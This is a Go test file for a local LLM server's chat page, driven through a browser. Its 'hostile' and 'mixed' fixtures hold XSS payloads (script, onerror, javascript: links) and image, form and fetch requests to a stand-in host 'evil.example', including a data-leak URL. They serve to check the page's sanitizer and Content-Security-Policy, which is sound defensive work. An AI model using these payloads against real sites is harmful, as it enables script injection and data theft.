//go:build !race

package server

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp/kb"

	"prunellm/infer"
	"prunellm/internal/browsertest"
	"prunellm/openapi"
)

// browse opens the page of a server with fake models. The race detector's run leaves this file out: the browser is
// another process, and its driver takes minutes to compile.
func browse(t *testing.T, models Models, change ...func(*Options)) (*browsertest.Page, *testServer) {
	t.Helper()
	if testing.Short() {
		t.Skip("needs a browser")
	}
	s := serve(t, models, change...)
	return browsertest.Open(t, s.url, "/", 1280, 800), s
}

// ask types a message and sends it with the keyboard only.
func ask(p *browsertest.Page, text string) {
	p.WaitFor("the model's name", `document.querySelector("#model").textContent === "tiny"`)
	p.Type("#prompt", text+kb.Enter)
}

const answered = `document.querySelector(".turn.assistant:last-child")?.getAttribute("aria-busy") === "false"`

func TestPageChats(t *testing.T) {
	models := newFake()
	models.answer = func(infer.Request) string { return "A **bold** answer:\n\n- one\n- two\n\n```go\nx := 1\n```\n" }
	page, _ := browse(t, models)
	ask(page, "Hello")
	page.WaitFor("an answer", answered)
	if got := page.Text(".turn.assistant strong"); got != "bold" {
		t.Errorf("bold text = %q, want bold", got)
	}
	if got := browsertest.Eval[int](page, `document.querySelectorAll(".turn.assistant li").length`); got != 2 {
		t.Errorf("list items = %d, want 2", got)
	}
	if got := page.Text(".turn.assistant .speaker"); got != "tiny@0.2" {
		t.Errorf("the answer is by %q, want tiny@0.2", got)
	}
	page.WaitFor("the card", `document.querySelector("#card").innerText.includes("19.7%")`)
	page.CheckAccessibility("after an answer")
	// The second question includes the first turn.
	ask(page, "And then?")
	page.WaitFor("a second answer", `document.querySelectorAll(".turn.assistant[aria-busy=false]").length === 2`)
	models.mu.Lock()
	prompt := len(models.requests[1].Prompt)
	first := len(models.requests[0].Prompt)
	models.mu.Unlock()
	if prompt < first+40 {
		t.Errorf("second prompt has %d tokens after %d, want the first turn in it", prompt, first)
	}
	page.Click("#new-chat")
	ask(page, "Hello")
	page.WaitFor("an answer in a new chat", `document.querySelectorAll(".turn").length === 2 && `+answered)
	if got := len(models.last().Prompt); got != first {
		t.Errorf("the first prompt of a new chat has %d tokens, want %d: nothing of the old one", got, first)
	}
}

// What the model thinks is folded above its answer, and part of the history.
func TestPageFoldsThinking(t *testing.T) {
	models := newFake()
	models.context, models.template = 4096, thinks
	models.answer = func(infer.Request) string { return "<think>First <b>this</b>.</think>\n\nThe *answer*." }
	page, _ := browse(t, models)
	ask(page, "Hello")
	page.WaitFor("an answer", answered)
	if got := page.Text(".turn.assistant .markdown em"); got != "answer" {
		t.Errorf("emphasis %q, want answer", got)
	}
	if open := browsertest.Eval[bool](page, `document.querySelector(".thinking").open`); open {
		t.Error("the thinking is unfolded")
	}
	page.CheckAccessibility("with folded thinking")
	page.Click(".thinking summary")
	if got := page.Text(".thinking"); !strings.Contains(got, "Thoughts") || !strings.Contains(got, "First <b>this</b>.") {
		t.Errorf("thinking %q", got)
	}
	page.CheckAccessibility("with unfolded thinking")
	models.answer = func(infer.Request) string { return "Just this." }
	ask(page, "And?")
	page.WaitFor("a second answer", `document.querySelectorAll(".turn.assistant[aria-busy=false]").length === 2`)
	if hidden := browsertest.Eval[bool](page, `document.querySelectorAll(".thinking")[1].hidden`); !hidden {
		t.Error("an answer without thinking shows some")
	}
	if got := text(&fakeVariant{}, models.last().Prompt); !strings.Contains(got, "<think>First <b>this</b>.</think>The *answer*.") {
		t.Errorf("prompt %q", got)
	}
}

// The stop button and Escape end an answer, on the server too. The partial answer stays.
func TestPageStops(t *testing.T) {
	models := newFake()
	models.answer = func(infer.Request) string { return strings.Repeat("word ", 10) }
	models.wait = func(ctx context.Context, token int) error {
		if token < 10 {
			return nil
		}
		<-ctx.Done()
		return ctx.Err()
	}
	page, _ := browse(t, models)
	for i, stop := range []func(){func() { page.Click("#send") }, func() { page.Type("#prompt", kb.Escape) }} {
		ask(page, "Hello")
		page.WaitFor("the beginning of an answer", `document.querySelector(".turn.assistant:last-child .markdown")?.innerText.includes("word word")`)
		if got := page.Text("#send"); got != "Stop" {
			t.Errorf("button while answering = %q, want Stop", got)
		}
		stop()
		page.WaitFor("the end of the answer", answered)
		eventually(t, "the generation ends", func() bool { return models.running.Load() == 0 })
		if got := page.Text(".turn.assistant:last-child .meta"); got != "Stopped." {
			t.Errorf("answer %d ends with %q, want Stopped.", i, got)
		}
		if got := page.Text(".turn.assistant:last-child .markdown"); got != "word word" {
			t.Errorf("answer %d = %q, want the partial answer", i, got)
		}
	}
}

// hostile holds answers that a careless page would run, load or follow.
var hostile = []string{
	`<script>window.hacked = 1</script>`,
	`<img src=x onerror="window.hacked = 1">`,
	`<svg onload="window.hacked = 1"><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
	`[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>) [v](vbscript:x)`,
	"[tab](java\tscript:window.hacked=1) <javascript:window.hacked=1>",
	`![picture](https://evil.example/leak?q=secret) ![p2](//evil.example/x.png "t")`,
	`[plain](https://example.org/a?b=c&d="><script>window.hacked=1</script>)`,
	"```html\n<script>window.hacked = 1</script>\n```",
	"| a | <img src=x onerror=window.hacked=1> |\n|---|---|\n| `<b>` | <style>body{display:none}</style> |",
	`<a href="https://evil.example" onclick="window.hacked=1">x</a> <form action=https://evil.example><input name=q>`,
	`<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">`,
	`&lt;script&gt;window.hacked=1&lt;/script&gt; __proto__ constructor`,
	strings.Repeat(">", 3000) + " deep",
	strings.Repeat("[", 2000) + strings.Repeat("*a ", 500) + strings.Repeat("](x)", 500),
	strings.Repeat("- ", 400) + "deep list",
}

// mixed returns texts of random pieces of Markdown and HTML. Each piece is harmless alone; their combinations may not
// be.
func mixed(n int) []string {
	pieces := []string{
		"<script>window.hacked=1</script>", "<img src=x onerror=window.hacked=1>", "javascript:window.hacked=1", "](javascript:window.hacked=1)", "[", "]", "(", ")", "![", "`", "```", "\n", "\n\n",
		"> ", "- ", "1. ", "| ", "|---|---|\n", "**", "*", "_", "~~", "<", ">", "\"", "'", "&lt;", "&#106;", "\\", "# ", "    ", "[x]: javascript:window.hacked=1\n", "[x]", "https://example.org/",
		"<a href=", "<!--", "-->", "<![CDATA[", "]]>", "word", "\u202e", "\u0000", "é", "😀", "<svg/onload=window.hacked=1>", "[ ] ", "---\n", "www.example.org", "a@b.example",
	}
	random := rand.New(rand.NewPCG(1, 2))
	texts := make([]string, n)
	for i := range texts {
		for range 1 + random.IntN(40) {
			texts[i] += pieces[random.IntN(len(pieces))]
		}
	}
	return texts
}

func TestHostileMarkdown(t *testing.T) {
	page, _ := browse(t, newFake())
	page.WaitFor("the model's name", `document.querySelector("#model").textContent === "tiny"`)
	texts, err := json.Marshal(append(slices.Clone(hostile), mixed(1000)...))
	if err != nil {
		t.Fatal(err)
	}
	found := browsertest.Eval[[]string](page, fmt.Sprintf(`import("/web/markdown.js").then(({ markdown }) => %s.flatMap((text) => {
		const root = document.createElement("div");
		root.className = "markdown";
		root.append(...markdown(text));
		document.querySelector("#log").append(root);
		const wrong = [...root.querySelectorAll("script, img, iframe, svg, style, object, embed, form, input, link, meta, base, video, audio")].map((e) => e.localName);
		for (const e of root.querySelectorAll("*")) for (const a of e.attributes) {
			if (a.name.startsWith("on") || a.name === "style" || a.name === "srcdoc") wrong.push(e.localName + " " + a.name);
			if ((a.name === "href" || a.name === "src") && !/^(https?|mailto):/.test(a.value)) wrong.push(a.name + " " + a.value);
		}
		for (const a of root.querySelectorAll("a")) if (!a.rel.includes("noopener") || a.target !== "_blank") wrong.push("link " + a.outerHTML);
		if (/[a-z]{3}/.test(text) && !text.startsWith("[x]:") && root.textContent.trim() === "" && !root.querySelector("a, li")) wrong.push("nothing is shown");
		return wrong.map((what) => JSON.stringify(text.slice(0, 200)) + " became " + what);
	}))`, texts))
	for _, wrong := range found {
		t.Error(wrong)
	}
	if browsertest.Eval[bool](page, `"hacked" in window`) {
		t.Error("a part of the hostile text ran")
	}
}

// The same through a chat: the page shows the answer's HTML as text.
func TestHostileAnswer(t *testing.T) {
	models := newFake()
	models.answer = func(infer.Request) string { return strings.Join(hostile[:12], "\n\n") }
	page, _ := browse(t, models)
	ask(page, `<img src=x onerror="window.hacked=1">`)
	page.WaitFor("an answer", answered)
	if browsertest.Eval[bool](page, `"hacked" in window`) {
		t.Error("a part of the hostile text ran")
	}
	if got := page.Text(".turn.assistant"); !strings.Contains(got, "<script>") {
		t.Errorf("the answer shows %q, want its HTML as text", got)
	}
	if got := page.Text(".turn.user"); !strings.Contains(got, "<img") {
		t.Errorf("the question shows %q, want its HTML as text", got)
	}
}

// A model may write a NUL character, which no message can hold. The next question still gets an answer.
func TestPageSendsNoNUL(t *testing.T) {
	models := newFake()
	models.answer = func(infer.Request) string { return "a\x00b" }
	page, _ := browse(t, models)
	ask(page, "Hello")
	page.WaitFor("an answer", answered)
	ask(page, "And then?")
	page.WaitFor("a second answer", `document.querySelectorAll(".turn.assistant[aria-busy=false]").length === 2`)
	models.mu.Lock()
	defer models.mu.Unlock()
	if got := len(models.requests); got != 2 {
		t.Errorf("the server accepted %d requests, want 2", got)
	}
}

// A server with keys: the page asks for a key, keeps it only for the tab, and reports a wrong one.
func TestPageAsksForKey(t *testing.T) {
	page, _ := browse(t, newFake(), func(o *Options) { o.APIKeys = func() []string { return []string{"secret"} } })
	page.WaitFor("the dialog", `document.querySelector("#key-dialog").open`)
	page.CheckAccessibility("key dialog")
	page.Type("#key", "wrong"+kb.Enter)
	page.WaitFor("the dialog again", `document.querySelector("#key-dialog").open && document.querySelector("#state").innerText.includes("not valid")`)
	browsertest.Eval[string](page, `document.querySelector("#key").value = ""`)
	page.Type("#key", "secret"+kb.Enter)
	ask(page, "Hello")
	page.WaitFor("an answer", answered)
	if got := browsertest.Eval[string](page, `JSON.stringify([Object.values(sessionStorage), Object.values(localStorage), document.cookie])`); got != `[["secret"],[],""]` {
		t.Errorf("session storage, local storage and cookie = %s, want the key in the first alone", got)
	}
	for _, complaint := range page.Complaints() {
		if !strings.Contains(complaint, "401") {
			t.Error(complaint)
		}
	}
}

// While the server is not ready, the page shows its progress. It continues without a reload.
func TestPageWaitsForServer(t *testing.T) {
	var ready atomic.Bool
	models := &changing{fakeModels: newFake(), ready: &ready}
	page, _ := browse(t, models)
	page.WaitFor("the progress", `document.querySelector("#state").innerText.includes("scoring: 40%")`)
	if got := browsertest.Eval[float64](page, `document.querySelector("#state progress").value`); got != 40 {
		t.Errorf("the bar stands at %v, want 40", got)
	}
	page.CheckAccessibility("waiting")
	page.Screenshot("waiting")
	ready.Store(true)
	page.WaitFor("no progress any more", `document.querySelector("#state").hidden`)
	ask(page, "Hello")
	page.WaitFor("an answer", answered)
	for _, complaint := range page.Complaints() {
		if !strings.Contains(complaint, "503") {
			t.Error(complaint)
		}
	}
}

// changing is a Models that becomes ready.
type changing struct {
	*fakeModels
	ready *atomic.Bool
}

func (c *changing) Status() Status {
	if c.ready.Load() {
		return Status{Ready: true}
	}
	return Status{Progress: "scoring: 40%"}
}

// making is an Admin whose only variant is being made.
type making struct{ fakeAdmin }

func (*making) Variants() []openapi.AdminVariant {
	return []openapi.AdminVariant{{ID: "tiny@0.2", Object: "variant", Ratio: 0.2, State: openapi.StateMaking, Progress: "scoring: 40%"}}
}

// cold is a Models whose dense model answers while the startup variant is being made.
type cold struct {
	*fakeModels
	made *atomic.Bool
}

func (c cold) List() []openapi.Model {
	list := []openapi.Model{{ID: "tiny"}, {ID: "tiny@0", Card: &openapi.Card{}}, {ID: "tiny@0.2"}}
	if c.made.Load() {
		list[2].Card = &openapi.Card{Ratio: 0.2}
		list[0].Card = list[2].Card
	}
	for i := range list {
		list[i].Object, list[i].OwnedBy = "model", "prunellm"
	}
	return list
}

// Until the startup variant is made, the page reports that the dense model answers, and the progress.
func TestPageReportsThatDenseAnswers(t *testing.T) {
	models := cold{newFake(), &atomic.Bool{}}
	page, _ := browse(t, models, func(o *Options) { o.Admin = &making{} })
	page.WaitFor("the progress", `document.querySelector("#state").innerText.includes("dense model answers while tiny@0.2 is being made: scoring: 40%")`)
	page.WaitFor("the hint", `document.querySelector("#chat-ratio .hint").innerText.includes("the dense model answers until then")`)
	models.made.Store(true)
	page.WaitFor("no progress any more", `document.querySelector("#state").hidden && document.querySelector("#chat-ratio .hint").innerText === "Ready."`)
}

// improved is a Models whose startup variant's file is replaced by a better one.
type improved struct {
	*fakeModels
	better *atomic.Bool
}

func (m improved) Status() Status {
	if m.better.Load() {
		return Status{Ready: true, Stage: "refined"}
	}
	return Status{Ready: true, Stage: "quick", Next: "refined: scoring: 40%"}
}

func (m improved) List() []openapi.Model {
	card := &openapi.Card{Ratio: 0.2, RatioReached: 0.197, Stage: m.Status().Stage}
	return []openapi.Model{{ID: "tiny", Object: "model", OwnedBy: "prunellm", Card: card}, {ID: "tiny@0.2", Object: "model", OwnedBy: "prunellm", Card: card}}
}

// The card says which file answers and what comes next, and changes when that one answers.
func TestPageShowsTheStage(t *testing.T) {
	models := improved{newFake(), &atomic.Bool{}}
	page, _ := browse(t, models)
	ask(page, "Hello")
	page.WaitFor("the stage and the next one", `/quick\s+next: refined: scoring: 40%/.test(document.querySelector("#card").innerText)`)
	page.CheckAccessibility("with a stage")
	models.better.Store(true)
	page.WaitFor("the better stage", `document.querySelector("#card").innerText.includes("refined") && !document.querySelector("#card").innerText.includes("next:")`)
}

// The variant is being made, or cannot be made: the answer shows the reason, and the page retries if the server is
// busy.
func TestPageWaitsForVariant(t *testing.T) {
	models := newFake()
	gate := make(chan struct{})
	var refused atomic.Bool
	models.acquire = func(ctx context.Context, name openapi.ModelName) error {
		if !refused.Swap(true) {
			return &NotReadyError{Progress: "too many variants are being made", RetryAfter: 1}
		}
		select {
		case <-gate:
			return nil
		case <-ctx.Done():
			return ctx.Err()
		}
	}
	page, _ := browse(t, models, func(o *Options) { o.Admin = &making{} })
	ask(page, "Hello")
	page.WaitFor("the reason", `document.querySelector(".meta")?.innerText.includes("too many variants")`)
	page.WaitFor("the progress", `document.querySelector(".meta")?.innerText.includes("Making tiny@0.2: scoring: 40%")`)
	page.CheckAccessibility("waiting for a variant")
	page.Screenshot("making")
	close(gate)
	page.WaitFor("an answer", answered)
	// At the far end of the slider, the server responds that the ratio is too large.
	page.Type("#chat-ratio-input", kb.End)
	ask(page, "More")
	page.WaitFor("the refusal", `document.querySelector(".turn.assistant:last-child .error")?.innerText.includes("is too large")`)
	if got := browsertest.Eval[string](page, `document.querySelector("#prompt").value`); got != "More" {
		t.Errorf("the message box holds %q, want the message that was not answered", got)
	}
	for _, complaint := range page.Complaints() {
		if !strings.Contains(complaint, "503") && !strings.Contains(complaint, "400") {
			t.Error(complaint)
		}
	}
}

// measured is a Models whose variants have complete cards.
type measured struct{ *fakeModels }

func (m measured) List() []openapi.Model {
	var list []openapi.Model
	for i, ratio := range []float64{0.2, 0, 0.1, 0.3, 0.4} {
		speed, agreement := 40+100*ratio, 1-ratio
		worse, divergence := 1+2*ratio, ratio
		card := &openapi.Card{
			Ratio: ratio, RatioReached: ratio * 0.985, Parameters: int64(134.5e6 * (1 - ratio)), Bytes: int64(145e6 * (1 - ratio)),
			KeptMLP: 1 - 1.7*ratio, ContextTokens: 4096, OutputTokensPerSec: &speed,
		}
		itl, ttft := 1000/speed, 80.0
		card.ITL, card.TTFT = &itl, &ttft
		if ratio > 0 {
			perplexity := 18.2 * worse
			card.Perplexity, card.PerplexityRatio, card.KLToDense, card.Top1Agreement, card.EvalTokens = &perplexity, &worse, &divergence, &agreement, 4096
		}
		entry := openapi.Model{ID: "tiny", Object: "model", Created: 1700000000, OwnedBy: "prunellm", Card: card}
		if i == 0 {
			list = append(list, entry)
		}
		entry.ID = "tiny@" + openapi.FormatRatio(ratio)
		list = append(list, entry)
	}
	return list
}

// Covers tabs by keyboard, the comparison with its two cards, and the chart with its table, all accessible in both
// themes.
func TestPageComparesAndCharts(t *testing.T) {
	models := newFake()
	models.answer = func(r infer.Request) string {
		return "The **gardener** cuts what bears no fruit, so that the rest grows better:\n\n1. look at the whole tree,\n2. cut little,\n3. wait and see.\n\n> Prune in winter.\n"
	}
	page, _ := browse(t, measured{models})
	ask(page, "What does a gardener do?")
	page.WaitFor("an answer", answered)
	page.WaitFor("a full card", `document.querySelector("#card").innerText.includes("Same next token")`)
	page.Screenshot("chat-light")

	page.Type("#tab-chat", kb.ArrowRight)
	page.WaitFor("the comparison", `!document.querySelector("#compare").hidden && document.activeElement.id === "tab-compare"`)
	page.Type("#compare-prompt", "What does a gardener do?"+kb.Enter)
	page.WaitFor("both answers", `document.querySelectorAll("#compare .turn[aria-busy=false]").length === 2 && document.querySelectorAll("#compare .group").length === 6`)
	if got := browsertest.Eval[string](page, `[...document.querySelectorAll("#compare .speaker")].map((e) => e.innerText).join()`); got != "tiny@0,tiny@0.2" {
		t.Errorf("compared are %s, want tiny@0 and tiny@0.2", got)
	}
	models.mu.Lock()
	if left, right := models.requests[1], models.requests[2]; left.Sampling.Seed != right.Sampling.Seed || len(left.Prompt) != len(right.Prompt) {
		t.Errorf("the two requests differ: %+v and %+v", left.Sampling, right.Sampling)
	}
	models.mu.Unlock()
	page.CheckAccessibility("comparison")
	page.Screenshot("compare-light")
	page.Click("#in-turn")
	page.Click("#compare-send")
	page.WaitFor("both answers at once", `document.querySelector("#compare-send").innerText === "Compare" && document.querySelectorAll("#compare .turn[aria-busy=false]").length === 2`)

	page.Type("#tab-compare", kb.ArrowRight)
	page.WaitFor("the chart", `document.querySelectorAll("#figure circle").length === 5`)
	page.WaitFor("the table", `document.querySelectorAll("#table tbody tr").length === 5`)
	page.CheckAccessibility("chart")
	page.Screenshot("chart-light")
	// Better is up for every measure: the dense model is the topmost dot.
	for _, measure := range []string{"top1_agreement", "perplexity_ratio", "kl_to_dense"} {
		top := browsertest.Eval[string](page, fmt.Sprintf(`(() => {
			const choice = document.querySelector("#quality");
			choice.value = %q;
			choice.dispatchEvent(new Event("change"));
			const dots = [...document.querySelectorAll("#figure circle")].sort((a, b) => a.cy.baseVal.value - b.cy.baseVal.value);
			return dots[0].textContent;
		})()`, measure))
		if top != "ratio 0" {
			t.Errorf("topmost by %s is %q, want ratio 0", measure, top)
		}
	}

	const isDark = `getComputedStyle(document.body).backgroundColor === "rgb(23, 20, 26)"`
	page.PreferDark()
	page.WaitFor("the system's dark theme", isDark)
	page.Click("#theme-button")
	page.WaitFor("the light theme by choice", "!("+isDark+")")
	page.Click("#theme-button")
	page.WaitFor("the dark theme by choice", isDark)
	page.CheckAccessibility("dark chart")
	page.Screenshot("chart-dark")
	page.Click("#tab-compare")
	page.Screenshot("compare-dark")
	page.Click("#tab-chat")
	page.CheckAccessibility("dark chat")
	page.Screenshot("chat-dark")

	page.Phone()
	for _, tab := range []string{"chat", "compare", "chart"} {
		page.Click("#tab-" + tab)
		page.WaitFor("a page no wider than the screen", `document.documentElement.scrollWidth <= 390`)
		page.Screenshot("mobile-" + tab)
	}
}

// If an answer is cut off or the server unreachable, the page keeps the partial answer and shows the reason.
func TestPageShowsFailures(t *testing.T) {
	models := newFake()
	models.answer = func(infer.Request) string { return "half an answer" }
	models.wait = func(_ context.Context, token int) error {
		if token >= 6 {
			return infer.ErrEngine
		}
		return nil
	}
	page, s := browse(t, models)
	ask(page, "Hello")
	page.WaitFor("the failure", `document.querySelector(".turn.assistant:last-child .error")?.innerText.includes("engine")`)
	if got := page.Text(".turn.assistant .markdown"); got != "half a" {
		t.Errorf("the answer shows %q, want the partial answer", got)
	}
	page.CheckAccessibility("failure")
	if err := s.stop(); err != nil {
		t.Fatal(err)
	}
	ask(page, "Are you there?")
	page.WaitFor("the failure", `document.querySelectorAll(".turn.assistant .error").length === 2`)
	if got := page.Text(".turn.assistant:last-child .error"); got != "The server cannot be reached." {
		t.Errorf("the page shows %q for an unreachable server", got)
	}
	for _, complaint := range page.Complaints() {
		if !strings.Contains(complaint, "ERR_CONNECTION") && !strings.Contains(complaint, "ERR_EMPTY_RESPONSE") {
			t.Error(complaint)
		}
	}
}

// A stream counts as an answer only if it is complete.
func TestPageNoticesCutStreams(t *testing.T) {
	page, _ := browse(t, newFake())
	for body, want := range map[string]string{
		`"data: 1\n\ndata: 2\n\ndata: [DONE]\n\n"`: "1 2",
		`"data: 1\n\ndata: 2\n\n"`:                 "1 2 The answer was cut off: the connection to the server ended.",
		`new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode("data: 1\n\n")); setTimeout(() => c.error(new TypeError("network error"))); } })`: "1 The answer was cut off: the connection to the server ended.",
	} {
		got := browsertest.Eval[string](page, fmt.Sprintf(`import("/web/api.js").then(async ({ events }) => {
			const seen = [];
			try { for await (const event of events(new Response(%s).body)) seen.push(event); } catch (error) { seen.push(error.message); }
			return seen.join(" ");
		})`, body))
		if got != want {
			t.Errorf("%s gives %q, want %q", body, got, want)
		}
	}
}

// Settings are sent as typed. The page points at a value that it cannot send, and keeps the message.
func TestPageKeepsToSettings(t *testing.T) {
	models := newFake()
	page, _ := browse(t, models)
	set := func(id, value string) {
		browsertest.Eval[string](page, fmt.Sprintf("document.querySelector(%q).value = %q", id, value))
	}
	set("#temperature", "0.25")
	ask(page, "Hello")
	page.WaitFor("an answer", answered)
	if got := models.last().Sampling.Temperature; got != 0.25 {
		t.Errorf("temperature 0.25 is sent as %v", got)
	}
	for id, wrong := range map[string]string{"#temperature": "3", "#max-tokens": "50000", "#seed": "1.5"} {
		before := browsertest.Eval[string](page, fmt.Sprintf("document.querySelector(%q).value", id))
		set(id, wrong)
		page.Type("#prompt", "Hello"+kb.Enter)
		page.WaitFor("the field", fmt.Sprintf("document.activeElement === document.querySelector(%q) && document.querySelector('.settings').open", id))
		if got := browsertest.Eval[string](page, `document.querySelector("#prompt").value.trim()`); got != "Hello" {
			t.Errorf("%s %s: the message box holds %q, want the message", id, wrong, got)
		}
		set(id, before)
		set("#prompt", "")
	}
	if got := browsertest.Eval[int](page, `document.querySelectorAll(".turn.user").length`); got != 1 {
		t.Errorf("%d messages were sent, want 1", got)
	}
}

// slow is a Models whose List blocks for a while.
type slow struct {
	*fakeModels
	gate chan struct{}
}

func (s slow) List() []openapi.Model {
	<-s.gate
	return s.fakeModels.List()
}

// A message that is sent before the page knows the model's name waits for it.
func TestPageWaitsForModels(t *testing.T) {
	models := slow{newFake(), make(chan struct{})}
	page, _ := browse(t, models)
	page.Type("#prompt", "Hello"+kb.Enter)
	page.WaitFor("the button that stops", `document.querySelector("#send").innerText === "Stop"`)
	page.Press(kb.Escape)
	page.WaitFor("the end of the wait", `document.querySelector("#send").innerText === "Send" && document.querySelector("#prompt").value.trim() === "Hello"`)
	page.Press(kb.Enter)
	close(models.gate)
	page.WaitFor("an answer", answered)
	if got := page.Text(".turn.assistant .speaker"); got != "tiny@0.2" {
		t.Errorf("the answer is by %q, want tiny@0.2", got)
	}
}

// The dialog refuses a key that no header can hold.
func TestPageRefusesOddKeys(t *testing.T) {
	page, _ := browse(t, newFake(), func(o *Options) { o.APIKeys = func() []string { return []string{"secret"} } })
	page.WaitFor("the dialog", `document.querySelector("#key-dialog").open`)
	page.Type("#key", "schlüssel€"+kb.Enter)
	if got := browsertest.Eval[string](page, `JSON.stringify([document.querySelector("#key-dialog").open, Object.values(sessionStorage)])`); got != "[true,[]]" {
		t.Errorf("dialog and session storage = %s, want the dialog alone", got)
	}
	for _, complaint := range page.Complaints() {
		if !strings.Contains(complaint, "401") {
			t.Error(complaint)
		}
	}
}

// odd is a Models whose ratio has three digits.
type odd struct{ *fakeModels }

func (odd) List() []openapi.Model {
	return []openapi.Model{{ID: "tiny", Object: "model", OwnedBy: "prunellm", Card: &openapi.Card{Ratio: 0.125, MaxRatio: 0.5}}}
}

// The slider begins at the server's own ratio, whatever it is.
func TestPageHasServersRatio(t *testing.T) {
	page, _ := browse(t, odd{newFake()})
	ask(page, "Hello")
	page.WaitFor("an answer", answered)
	if got := page.Text(".turn.assistant .speaker"); got != "tiny@0.125" {
		t.Errorf("the answer is by %q, want tiny@0.125", got)
	}
	for _, complaint := range page.Complaints() {
		if !strings.Contains(complaint, "404") { // of the card, which the fake lacks
			t.Error(complaint)
		}
	}
}

// The direction of a text follows its first letter.
func TestPageWritesFromTheRight(t *testing.T) {
	models := newFake()
	models.answer = func(infer.Request) string { return "שלום!\n\n- אחת\n- שתיים\n\nHello." }
	page, _ := browse(t, models)
	ask(page, "שלום (test)!")
	page.WaitFor("an answer", answered)
	got := browsertest.Eval[string](page, `[".turn.user p", ".markdown p", ".markdown li", ".markdown p:last-child"].map((s) => getComputedStyle(document.querySelector(s)).direction).join(" ")`)
	if got != "rtl rtl rtl ltr" {
		t.Errorf("question, paragraph, list and English run %s, want rtl rtl rtl ltr", got)
	}
}

// With forced colors, the selected tab and the card's bars stay visible.
func TestPageInForcedColors(t *testing.T) {
	page, _ := browse(t, measured{newFake()})
	page.ForceColors()
	ask(page, "Hello")
	page.WaitFor("the card", `document.querySelector(".filled")`)
	const grounds = `["#tab-chat", "#tab-compare", ".filled", ".bar"].map((s) => getComputedStyle(document.querySelector(s)).backgroundColor)`
	if !browsertest.Eval[bool](page, `(([on, off, filled, bar]) => on !== off && filled !== bar)(`+grounds+`)`) {
		t.Errorf("backgrounds of both tabs, filled and bar = %s, want them to differ", browsertest.Eval[string](page, grounds+`.join(" ")`))
	}
	page.Screenshot("forced-colors")
}

// Everything works without a mouse.
func TestPageByKeyboard(t *testing.T) {
	page, _ := browse(t, measured{newFake()})
	page.WaitFor("the model's name", `document.querySelector("#model").textContent === "tiny"`)
	if got := browsertest.Eval[string](page, `document.activeElement.id`); got != "prompt" {
		t.Errorf("at first the focus is on %q, want prompt", got)
	}
	page.Focus(".skip")
	order := []string{"skip"}
	for range 10 {
		page.Press(kb.Tab)
		order = append(order, browsertest.Eval[string](page, `document.activeElement.id || document.activeElement.className`))
	}
	want := []string{"skip", "tab-chat", "quiet", "key-button", "theme-button", "log", "chat-ratio-input", "prompt", "send", "new-chat", "card"}
	if strings.Join(order, " ") != strings.Join(want, " ") {
		t.Errorf("the tab key leads to %v, want %v", order, want)
	}
	page.Type("#chat-ratio-input", kb.Home+kb.ArrowRight+kb.ArrowRight)
	if got := browsertest.Eval[string](page, `document.querySelector("#chat-ratio-input").getAttribute("aria-valuetext")`); got != "0.1, 10% of all parameters removed" {
		t.Errorf("the slider reads %q", got)
	}
	ask(page, "Hello")
	page.WaitFor("an answer", answered)
	if got := page.Text(".turn.assistant .speaker"); got != "tiny@0.1" {
		t.Errorf("the answer is by %q, want tiny@0.1", got)
	}
	page.WaitFor("the announcement", `document.querySelector("#announce").textContent === "The answer is complete"`)
	if got := browsertest.Eval[string](page, `document.activeElement.id`); got != "prompt" {
		t.Errorf("after the answer the focus is on %q, want prompt", got)
	}
}

// Even the page's own script cannot parse a string as HTML.
func TestPagePolicyHolds(t *testing.T) {
	page, s := browse(t, newFake())
	for _, attempt := range []string{
		`document.querySelector("#log").innerHTML = "<b>x</b>"`,
		`document.write("x")`,
		`await fetch("https://evil.example/")`,
	} {
		got := browsertest.Eval[string](page, fmt.Sprintf(`(async () => { try { await (async () => { %s })(); return "done" } catch (e) { return e.name } })()`, attempt))
		if got != "TypeError" {
			t.Errorf("%s: %s, want a TypeError", attempt, got)
		}
	}
	if blocked := strings.Join(page.Complaints(), "\n"); !strings.Contains(blocked, "evil.example") {
		t.Errorf("the policy allowed a request to another host: %s", blocked)
	}
	if got := s.do(http.MethodGet, "/", ""); got.header.Get("Content-Security-Policy") == "" {
		t.Error("the page has no policy")
	}
}

// The API documentation works offline, under its own policy.
func TestContractInBrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("needs a browser")
	}
	s := serve(t, newFake())
	page := browsertest.Open(t, s.url, "/docs", 1280, 800)
	page.WaitFor("the operations", `document.querySelectorAll(".opblock").length > 10`)
}
